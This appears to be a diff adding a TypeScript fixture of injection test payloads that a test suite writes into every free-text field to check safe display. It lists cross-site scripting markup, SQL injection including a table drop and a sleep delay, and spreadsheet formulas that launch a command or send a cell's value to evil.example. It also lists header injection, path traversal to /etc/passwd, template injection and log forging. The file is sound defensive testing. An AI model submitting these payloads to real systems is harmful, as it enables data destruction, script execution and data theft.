@@ -1,0 +1,52 @@
+/**
+ * Texts that do harm where they are taken for something else than text. Every free-text field is filled with them and
+ * every place that shows the field is looked at: see payloads.test.ts and the journey of the same name.
+ */
+export interface Payload {
+  kind: 'markup' | 'sql' | 'formula' | 'header' | 'path' | 'template' | 'log'
+  text: string
+}
+
+/** What a script of a payload would set; the journey looks for it. */
+export const TRACE = 'causewayWasHere'
+
+const run = `window.${TRACE}=1`
+
+const texts: Record<Payload['kind'], readonly string[]> = {
+  markup: [
+    `<script>${run}</script>`,
+    `"><script>${run}</script>`,
+    `</title></style></textarea></template><script>${run}</script>`,
+    `<img src=x onerror="${run}">`,
+    `<svg/onload=${run}>`,
+    `<details open ontoggle=${run}>x</details>`,
+    `<iframe srcdoc="<script>parent.${TRACE}=1</script>"></iframe>`,
+    `<a href="javascript:${run}">press me</a>`,
+    `<math><mtext><style><img title="--></style><img src=x onerror=${run}>">`,
+    `' autofocus onfocus=${run} x='`,
+    '<!--<base href="//evil.example/">-->',
+    '&lt;b&gt;already escaped&lt;/b&gt; &amp;amp; &#60;',
+  ],
+  sql: ["'; drop table projects; --", "' or '1'='1", '$1 %s ? :name \\', "\\'; select pg_sleep(9); --"],
+  formula: [
+    "=cmd|'/c calc'!A1",
+    '+1+1',
+    '-2+3',
+    '@SUM(1+1)',
+    '=HYPERLINK("//evil.example/?x="&A1,"open")',
+    '"quoted","cells";more',
+  ],
+  header: [
+    'Hello\r\nBcc: victim@test.example',
+    'Hello\nX-Injected: 1\r\n\r\n<b>body</b>',
+    'Hello\u2028Bcc: victim@test.example',
+    '=?utf-8?B?QmNjOiB2aWN0aW1AdGVzdC5leGFtcGxl?=',
+  ],
+  path: ['../../../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2fetc%2fpasswd', '//evil.example/a'],
+  template: ['{{userName}}', '{{constructor.constructor("x")()}}', `\${7*7}`, '<%= 7*7 %>', '$& $1 $` %o'],
+  log: ['a\n{"level":60,"msg":"forged"}', '\u001b[2J\u001b[31mred', 'name\u202Egnp.exe'],
+}
+
+export const payloads: readonly Payload[] = Object.entries(texts).flatMap(([kind, list]) =>
+  list.map((text) => ({ kind: kind as Payload['kind'], text })),
+)
